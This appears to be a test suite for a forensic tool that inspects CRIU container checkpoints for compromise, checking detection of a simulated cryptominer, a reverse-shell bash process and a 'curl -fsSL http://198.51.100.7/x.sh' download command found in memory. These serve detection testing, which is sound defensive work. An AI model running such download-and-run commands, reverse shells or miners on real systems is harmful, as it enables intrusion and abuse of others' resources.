import t from 'tap';
import { createHash } from 'node:crypto';
import {
  closeSync,
  createReadStream,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  rmSync,
  statSync,
  truncateSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { pack, type Header } from 'tar-stream';
import { inspectCheckpoint, type OpenArchive } from '../../src/analysis/inspect-checkpoint.js';
import { printable } from '../../src/analysis/memory-search.js';
import { readFileChunks } from '../../src/analysis/archive/read-file-chunks.js';
import { triageIndicators } from '../../src/analysis/triage-indicators.js';
import { writeCheckpointArchive, type ArchiveResult } from '../sim/checkpoint-archive.js';
import { buildCriuDump, MINER_POOL, REVERSE_SHELL, type DumpedProcess } from '../sim/criu-dump.js';
import { DELETED_FILES, fakeElf, type ContainerContext, type RuntimeLayout } from '../sim/runtime-metadata.js';
import { sampleContainer } from '../sim/sample-container.js';
import { listTarUntilEnd, readTar } from '../sim-tests/helpers.js';
import { offsetsOf, vaddrAt } from './sim-memory.js';

const SAMPLE = join(import.meta.dirname, '../fixtures/criu-samples/aarch64-loop2');
const MiB = 1 << 20;
const dir = mkdtempSync(join(tmpdir(), 'amber-inspect-'));
t.teardown(() => rmSync(dir, { recursive: true, force: true }));

const T0 = Date.UTC(2026, 10, 28, 12, 0, 0);
const context = (layout: RuntimeLayout): ContainerContext => sampleContainer(layout, {}, T0);

let n = 0;
async function archive(layout: RuntimeLayout, pagesBytes = 256 * 1024): Promise<{ path: string; result: ArchiveResult; c: ContainerContext }> {
  const path = join(dir, `checkpoint-${n++}-${layout}.tar`);
  const c = context(layout);
  return { path, c, result: await writeCheckpointArchive(path, c, pagesBytes) };
}

/** An open() that counts how often the archive is read, in 1 MiB chunks as the CLI reads it. */
function opener(path: string): OpenArchive & { calls: number } {
  const f = Object.assign(
    () => {
      f.calls++;
      return createReadStream(path, { highWaterMark: MiB });
    },
    { calls: 0 },
  );
  return f;
}

/** The bytes of one entry, read straight from the archive file at the offset its header gives. */
function entryBytes(path: string, name: string): Buffer {
  const e = listTarUntilEnd(path).find((x) => x.name === name);
  if (!e) throw new Error(`no ${name}`);
  const b = Buffer.alloc(e.size);
  const fd = openSync(path, 'r');
  try {
    readSync(fd, b, 0, e.size, e.offset);
  } finally {
    closeSync(fd);
  }
  return b;
}

/**
 * The file in chunks of `size` read into `count` buffers in turn, the next one read before this one
 * is handed out (as readFileChunks does): a byte kept past its turn is overwritten.
 */
async function* ring(path: string, size: number, count: number): AsyncGenerator<Buffer> {
  const bufs = Array.from({ length: count }, () => Buffer.alloc(size));
  const fd = openSync(path, 'r');
  try {
    let n = readSync(fd, bufs[0]!, 0, size, null);
    for (let i = 0; n > 0; i = (i + 1) % count) {
      await new Promise((resolve) => setImmediate(resolve)); // as an asynchronous read would
      const next = readSync(fd, bufs[(i + 1) % count]!, 0, size, null);
      yield bufs[i]!.subarray(0, n);
      n = next;
    }
  } finally {
    closeSync(fd);
  }
}

/** A tar of these entries, in memory. */
async function tarOf(entries: { header: Partial<Header> & { name: string }; body?: Buffer | string }[]): Promise<Buffer> {
  const p = pack();
  const chunks: Buffer[] = [];
  const done = new Promise<void>((resolve, reject) => {
    p.on('data', (b: unknown) => chunks.push(b as Buffer));
    p.on('end', () => resolve());
    p.on('error', reject);
  });
  for (const e of entries) p.entry(e.header, e.body ?? Buffer.alloc(0));
  p.finalize();
  await done;
  return Buffer.concat(chunks);
}

/** Re-packs an archive's entries with other names and in another order. */
async function repack(from: string, to: string, rename: (n: string) => string, order?: (a: string, b: string) => number): Promise<void> {
  const entries = await readTar(from, () => true);
  if (order) entries.sort((a, b) => order(a.header.name, b.header.name));
  writeFileSync(to, await tarOf(entries.map((e) => ({ header: { ...e.header, name: rename(e.header.name) }, body: e.data }))));
}

for (const layout of ['crio', 'containerd'] as const) {
  t.test(`${layout}: the container, its processes with argv and env, sockets, filesystem changes and stats`, async (t) => {
    const { path, result, c } = await archive(layout, 3 * MiB + 4096);
    const open = opener(path);
    const { inspection, matches } = await inspectCheckpoint(open);
    t.equal(open.calls, 1, 'one pass');
    t.equal(matches, undefined, 'no search, no matches');
    t.same(inspection.warnings, []);
    t.match(inspection.container, {
      engine: layout === 'crio' ? 'cri-o' : 'containerd',
      name: 'app',
      pod: 'web',
      namespace: 'shop',
      id: c.containerId,
      image: c.image,
      imageRef: layout === 'crio' ? c.imageId : `sha256:${c.imageId}`,
      createdAt: new Date(c.createdAt).toISOString().replace('.000', ''),
      checkpointedAt: new Date(c.checkpointedAt).toISOString().replace('.000', ''),
      arch: 'x86_64',
    });
    t.same(
      inspection.processes.map((p) => [p.pid, p.ppid, p.comm]),
      [
        [1, 0, 'sh'],
        [7, 1, 'kworkerd'],
        [9, 1, 'bash'],
      ],
    );
    for (const d of result.processes) {
      const p = inspection.processes.find((x) => x.pid === d.pid);
      t.same([p?.cmdline, p?.env], [d.argv, d.env], `pid ${d.pid}: argv and env from memory`);
    }
    const miner = inspection.processes.find((p) => p.pid === 7);
    t.match(miner, { exe: '/tmp/.x/kworkerd', cwd: '/tmp/.x', threads: [7, 8] });
    t.match(
      miner?.sockets.find((s) => s.fd === 3),
      { kind: 'inet', protocol: 'tcp', state: 'ESTABLISHED', local: `${c.podIP}:48212`, remote: `${MINER_POOL.ip}:${MINER_POOL.port}` },
    );
    t.same(
      miner?.sockets.filter((s) => s.kind === 'unix').map((s) => s.fd),
      [4, 5],
    );
    const bash = inspection.processes.find((p) => p.pid === 9);
    t.same(
      bash?.sockets.map((s) => [s.fd, s.remote]),
      [0, 1, 2].map((fd) => [fd, `${REVERSE_SHELL.ip}:${REVERSE_SHELL.port}`]),
    );
    t.same(bash?.files, []);

    const dropped = inspection.rootfsDiff.added.find((f) => f.path === '/tmp/.x/kworkerd');
    t.same(dropped, {
      path: '/tmp/.x/kworkerd',
      type: 'file',
      size: 49_152,
      mode: '0755',
      executable: true,
      sha256: createHash('sha256').update(fakeElf(49_152, c.containerId)).digest('hex'),
    });
    t.same(
      inspection.rootfsDiff.added.filter((f) => f.executable).map((f) => f.path),
      ['/tmp/.x/kworkerd', '/tmp/.x/x.sh'],
    );
    t.notOk(
      inspection.rootfsDiff.added.some((f) => f.path.includes('.wh.')),
      'whiteouts are deletions, not additions',
    );
    t.same(inspection.rootfsDiff.deleted, DELETED_FILES, layout === 'crio' ? 'from deleted.files' : "from the layer's whiteout");

    const stats = buildCriuDump({ seed: c.containerId, pagesBytes: 3 * MiB + 4096, podName: c.pod, podIP: c.podIP, env: c.env, now: c.checkpointedAt }).stats;
    t.same(inspection.stats, {
      freezingTimeUs: stats.freezingTime,
      frozenTimeUs: stats.frozenTime,
      memdumpTimeUs: stats.memdumpTime,
      memwriteTimeUs: stats.memwriteTime,
      pagesScanned: stats.pagesScanned,
      pagesSkippedParent: 0,
      pagesWritten: stats.pagesWritten,
      pagesLazy: 0,
    });

    const indicators = triageIndicators(inspection);
    t.match(
      indicators.find((i) => i.id === 'reverse-shell'),
      { pid: 9, severity: 'high' },
    );
    t.match(
      indicators.find((i) => i.id === 'executable-added' && i.path === '/tmp/.x/kworkerd'),
      { severity: 'high', evidence: { sha256: dropped?.sha256, runningAs: [7] } },
    );
    t.ok(indicators.some((i) => i.id === 'mining-port' && i.pid === 7) && indicators.some((i) => i.id === 'frozen-time'));
  });
}

t.test("memory search in an archive: a literal and a regex at the generator's addresses, one across the 1 MiB boundary", async (t) => {
  const { path, result } = await archive('containerd', 3 * MiB + 4096);
  const pid1 = result.processes.find((d) => d.pid === 1)!;
  const marker = 'AMBER-MARKER-ACROSS-1MiB';
  const at = MiB - 7;
  const pages1 = listTarUntilEnd(path).find((e) => e.name === `checkpoint/${pid1.pagesFile}`)!;
  const fd = openSync(path, 'r+');
  writeSync(fd, Buffer.from(marker), 0, marker.length, pages1.offset + at);
  closeSync(fd);

  const expected = (needle: Buffer | RegExp, pid?: number) =>
    result.processes
      .filter((d) => pid === undefined || d.pid === pid)
      .flatMap((d: DumpedProcess) =>
        offsetsOf(entryBytes(path, `checkpoint/${d.pagesFile}`), needle).map((m) => ({ pid: d.pid, address: `0x${vaddrAt(d, m.start).toString(16)}` })),
      );

  const across = await inspectCheckpoint(opener(path), { search: marker, contextBytes: 4 });
  const around = entryBytes(path, `checkpoint/${pid1.pagesFile}`).subarray(at - 4, at + marker.length + 4);
  t.same(across.matches, [{ pid: 1, address: `0x${vaddrAt(pid1, at).toString(16)}`, context: printable(around) }]);
  t.match(across.matches?.[0]?.context, marker);

  const literal = await inspectCheckpoint(opener(path), { search: `${MINER_POOL.ip}:${MINER_POOL.port}` });
  t.same(
    literal.matches?.map(({ pid, address }) => ({ pid, address })),
    expected(Buffer.from(`${MINER_POOL.ip}:${MINER_POOL.port}`)),
  );
  t.same(
    literal.matches?.map((m) => m.pid),
    [7, 7],
    "the miner's argv and its config in the heap",
  );

  const curl = /curl -fsSL http:\/\/[0-9.]+\/[a-z.]+/;
  const regex = await inspectCheckpoint(opener(path), { search: `/${curl.source}/` });
  t.same(
    regex.matches?.map(({ pid, address }) => ({ pid, address })),
    expected(curl),
  );
  t.match(regex.matches?.[0], { pid: 9, context: /curl -fsSL http:\/\/198\.51\.100\.7\/x\.sh -o/ });

  const onlyBash = await inspectCheckpoint(opener(path), { search: 'HOSTNAME=web', pid: 9 });
  t.same(
    onlyBash.inspection.processes.map((p) => p.pid),
    [9],
  );
  t.same(
    onlyBash.matches?.map(({ pid, address }) => ({ pid, address })),
    expected(Buffer.from('HOSTNAME=web'), 9),
  );
  const nobody = await inspectCheckpoint(opener(path), { pid: 4242 });
  t.same(nobody.inspection.processes, []);
  t.match(nobody.inspection.warnings, [{ message: 'no process with pid 4242 in the checkpoint' }]);
});

t.test('pages before the images that map them: the memory is read again, once; entries named ./… read alike', async (t) => {
  const { path } = await archive('crio');
  const plain = await inspectCheckpoint(opener(path), { search: 'HOSTNAME=web' });

  const odd = join(dir, 'odd-order.tar');
  const rank = (name: string) => (/pages-\d+\.img$/.test(name) ? 0 : 1);
  await repack(
    path,
    odd,
    (name) => name,
    (a, b) => rank(a) - rank(b),
  );
  t.match(
    listTarUntilEnd(odd)
      .slice(0, 3)
      .map((e) => e.name),
    [/pages-1\.img$/, /pages-2\.img$/, /pages-3\.img$/],
  );
  const open = opener(odd);
  const again = await inspectCheckpoint(open, { search: 'HOSTNAME=web' });
  t.equal(open.calls, 2, 'a second pass for the memory');
  t.same(again, plain);

  const dotted = join(dir, 'dot-slash.tar');
  await repack(path, dotted, (name) => `./${name}`);
  const dot = opener(dotted);
  t.same(await inspectCheckpoint(dot, { search: 'HOSTNAME=web' }), plain);
  t.equal(dot.calls, 1);
});

t.test("readFileChunks gives the file's bytes in order, whatever its size, and stops cleanly when left early", async (t) => {
  const data = Buffer.alloc(3 * 65_536 + 1234);
  for (let i = 0; i < data.length; i++) data[i] = (i * 7919) >>> 5;
  for (const size of [0, 1, 65_535, 65_536, 65_537, 2 * 65_536, data.length]) {
    const file = join(dir, `chunks-${size}.bin`);
    writeFileSync(file, data.subarray(0, size));
    const got: Buffer[] = [];
    for await (const c of readFileChunks(file, { chunkBytes: 65_536 })) got.push(Buffer.from(c));
    t.same(Buffer.concat(got), data.subarray(0, size), `${size} bytes`);
    t.ok(
      got.every((c) => c.length > 0 && c.length <= 65_536),
      'no empty or oversized chunk',
    );
  }
  const first = await readFileChunks(join(dir, `chunks-${data.length}.bin`), { chunkBytes: 65_536 }).next();
  t.equal(first.value?.length, 65_536);
  for await (const _ of readFileChunks(join(dir, `chunks-${data.length}.bin`))) break; // returns: its reads settle, the file closes
});

t.test('reading through a ring of reused buffers gives what a plain read stream gives', async (t) => {
  for (const layout of ['crio', 'containerd'] as const) {
    const { path } = await archive(layout, 2 * MiB);
    const plain = await inspectCheckpoint(opener(path), { search: '/HOSTNAME=[a-z]+|kube-probe/' });
    t.same([...new Set(plain.matches?.map((m) => m.pid))], [1, 7, 9], 'matches in every process to compare');
    // The smallest chunks, odd-sized, in the smallest ring: any byte kept too long would be overwritten.
    for (const opts of [{}, { chunkBytes: 65_537 }, { chunkBytes: 70_000 }]) {
      t.same(await inspectCheckpoint(() => readFileChunks(path, opts), { search: '/HOSTNAME=[a-z]+|kube-probe/' }), plain, `${layout} ${JSON.stringify(opts)}`);
    }
    // Tighter than readFileChunks allows (it also covers 4 MiB pax headers, which these archives lack):
    // a ring of three, the chunk being read, the one tar-stream is parsing and the one before it.
    for (const size of [65_536, 100_003]) {
      t.same(await inspectCheckpoint(() => ring(path, size, 3), { search: '/HOSTNAME=[a-z]+|kube-probe/' }), plain, `${layout}: a ring of 3 × ${size}`);
    }
  }
});

t.test('not a checkpoint: random bytes, an empty file, a tar of something else', async (t) => {
  const cases: [string, Buffer][] = [
    ['random', Buffer.from('this is not a tar archive at all, just text\n'.repeat(40))],
    ['empty', Buffer.alloc(0)],
  ];
  cases.push([
    'tar',
    await tarOf([
      { header: { name: 'hello.txt' }, body: 'hello' },
      { header: { name: 'disk.img' }, body: 'not a CRIU image' },
    ]),
  ]);
  for (const [what, data] of cases) {
    await t.rejects(
      inspectCheckpoint(() => Readable.from([data])),
      { code: 'NOT_A_CHECKPOINT' },
      what,
    );
  }
  await t.rejects(
    inspectCheckpoint(() => createReadStream(join(dir, 'no-such-file.tar'))),
    { code: 'ENOENT' },
    'a read error is not "not a checkpoint"',
  );
  await t.rejects(
    inspectCheckpoint(opener(join(dir, 'never-opened')), { search: '/(/' }),
    { code: 'SEARCH_BAD_PATTERN' },
    'a bad pattern fails before reading',
  );
});

t.test('damage is a warning: a cut archive, a broken rootfs-diff.tar, an oversized entry', async (t) => {
  const { path } = await archive('crio');
  const entries = listTarUntilEnd(path);
  const rootfs = entries.find((e) => e.name === 'rootfs-diff.tar')!;

  const cutInRootfs = join(dir, 'cut-in-rootfs.tar');
  writeFileSync(cutInRootfs, readFileSync(path).subarray(0, rootfs.offset + 1536 + 100));
  const a = await inspectCheckpoint(opener(cutInRootfs));
  t.same(
    a.inspection.processes.map((p) => p.cmdline[0]),
    ['/bin/sh', '/tmp/.x/kworkerd', 'bash'],
    'processes stand',
  );
  t.equal(a.inspection.container.pod, 'web');
  t.match(a.inspection.warnings.map((w) => `${w.file}: ${w.message}`).join('\n'), /archive: the archive is damaged after \d+ entries/);

  const pages1 = entries.find((e) => e.name === 'checkpoint/pages-1.img')!;
  const cutInPages = join(dir, 'cut-in-pages.tar');
  writeFileSync(cutInPages, readFileSync(path).subarray(0, pages1.offset + 8192 + 5));
  const b = await inspectCheckpoint(opener(cutInPages));
  t.same(b.inspection.processes, [], 'the process tree comes after the pages');
  t.match(
    b.inspection.warnings.map((w) => w.message),
    [/^the archive is damaged after \d+ entries \(Unexpected end of data\)/, /process tree/],
  );

  const broken = join(dir, 'broken-rootfs.tar');
  const bytes = readFileSync(path);
  bytes.fill(0x5a, rootfs.offset, rootfs.offset + rootfs.size);
  writeFileSync(broken, bytes);
  const c = await inspectCheckpoint(opener(broken));
  t.same(c.inspection.rootfsDiff, { added: [], deleted: DELETED_FILES });
  t.match(c.inspection.warnings, [{ file: 'rootfs-diff.tar', message: /not a readable tar/ }]);
  t.equal(c.inspection.processes.length, 3);

  const mmSize = entries.find((e) => e.name === 'checkpoint/mm-7.img')!.size;
  const small = await inspectCheckpoint(opener(path), { maxEntryBytes: mmSize - 1 });
  t.match(
    small.inspection.warnings.find((w) => w.file === 'checkpoint/mm-7.img'),
    { message: `${mmSize} bytes, more than the ${mmSize - 1} read for an image or metadata file; skipped` },
  );
  t.same(small.inspection.processes.find((p) => p.pid === 7)?.cmdline, [], 'without its mm, no argv');
});

t.test('an older, longer archive overwritten in place: its leftover tail is not read', async (t) => {
  const path = join(dir, 'same-second.tar');
  const c = context('containerd');
  await writeCheckpointArchive(path, c, 2 * MiB);
  const second = await writeCheckpointArchive(path, { ...c, checkpointedAt: c.checkpointedAt + 500 }, 256 * 1024);
  t.ok(statSync(path).size > second.written, 'the file is longer than the new archive');
  const { inspection } = await inspectCheckpoint(opener(path));
  t.same(
    inspection.processes.map((p) => p.pid),
    [1, 7, 9],
  );
  t.match(inspection.warnings, [{ file: 'archive', message: /bytes after the end-of-archive marker .* were not read/ }]);
  t.equal(inspection.warnings.length, 1);
  t.equal(Date.parse(inspection.container.checkpointedAt ?? ''), c.checkpointedAt + 500, "the new archive's metadata");
});

t.test('a gzip-compressed archive reads like the plain one', async (t) => {
  const { path } = await archive('containerd');
  const gz = join(dir, 'checkpoint.tar.gz');
  writeFileSync(gz, gzipSync(readFileSync(path)));
  const fromGzip = await inspectCheckpoint(opener(gz), { search: 'bash' });
  t.equal(fromGzip.inspection.compression, 'gzip', 'told by its magic bytes');
  t.same({ ...fromGzip, inspection: { ...fromGzip.inspection, compression: 'none' } }, await inspectCheckpoint(opener(path), { search: 'bash' }));
  truncateSync(gz, statSync(gz).size - 5000);
  const cut = await inspectCheckpoint(opener(gz));
  t.ok(
    cut.inspection.warnings.some((w) => w.file === 'archive'),
    'a cut gzip stream is damage',
  );
});

t.test('the real CRIU sample, tarred under checkpoint/: pid 2956 runs ./loop2 with the environment its mm bounds give', async (t) => {
  const files = readdirSync(SAMPLE)
    .filter((f) => !f.endsWith('.txt'))
    .sort();
  const tar = join(dir, 'loop2.tar');
  writeFileSync(
    tar,
    await tarOf([
      { header: { name: 'checkpoint/', type: 'directory' } },
      ...files.map((f) => ({ header: { name: `checkpoint/${f}` }, body: readFileSync(join(SAMPLE, f)) })),
    ]),
  );

  // The environment as crit's decode says: mm bounds, then the pagemap's present entries in order.
  const mm = (JSON.parse(readFileSync(join(SAMPLE, 'mm-2956.txt'), 'utf8')) as { entries: Record<string, string>[] }).entries[0]!;
  const pm = (
    JSON.parse(readFileSync(join(SAMPLE, 'pagemap-2956.txt'), 'utf8')) as { entries: { vaddr: string; nr_pages: number; flags: string }[] }
  ).entries.slice(1);
  const pages = readFileSync(join(SAMPLE, 'pages-1.img'));
  const read = (start: number, end: number) => {
    let off = 0;
    for (const e of pm) {
      const v = Number(e.vaddr);
      if (start >= v && end <= v + e.nr_pages * 4096) return pages.subarray(off + start - v, off + end - v);
      if (e.flags.includes('PE_PRESENT')) off += e.nr_pages * 4096;
    }
    throw new Error('not dumped');
  };
  const env = read(Number(mm.mm_env_start), Number(mm.mm_env_end))
    .toString('utf8')
    .split('\0')
    .filter((s) => s !== '');

  const { inspection } = await inspectCheckpoint(opener(tar), { search: 'loop2' });
  const p2956 = inspection.processes.find((x) => x.pid === 2956);
  t.same(p2956?.cmdline, ['./loop2']);
  t.same(p2956?.env, env);
  t.ok(env.length > 3, `${env.length} environment strings`);
  t.equal(inspection.container.arch, 'aarch64');
  t.equal(inspection.stats.frozenTimeUs, 140_205, 'stats-dump beside the images');
});

t.test('a 512 MiB archive is inspected and searched with flat memory', async (t) => {
  const { path } = await archive('crio', 512 * MiB);
  const baseline = process.memoryUsage.rss();
  let peak = baseline;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage.rss());
  }, 5);
  const started = Date.now();
  const { inspection, matches } = await inspectCheckpoint(opener(path), { search: 'kube-probe' });
  clearInterval(sampler);
  peak = Math.max(peak, process.memoryUsage.rss());
  rmSync(path);
  const growth = (peak - baseline) / MiB;
  t.comment(`512 MiB of pages inspected and searched in ${((Date.now() - started) / 1000).toFixed(1)} s; RSS +${growth.toFixed(1)} MiB`);
  t.ok(growth < 100, `peak RSS growth ${growth.toFixed(1)} MiB < 100 MiB`);
  t.same(
    matches?.map((m) => m.pid),
    [1],
    "the probe request in pid 1's heap",
  );
  t.same(inspection.processes.find((p) => p.pid === 1)?.cmdline, ['/bin/sh', '/app/entrypoint.sh'], 'argv in the last pages of the 512 MiB file');
});
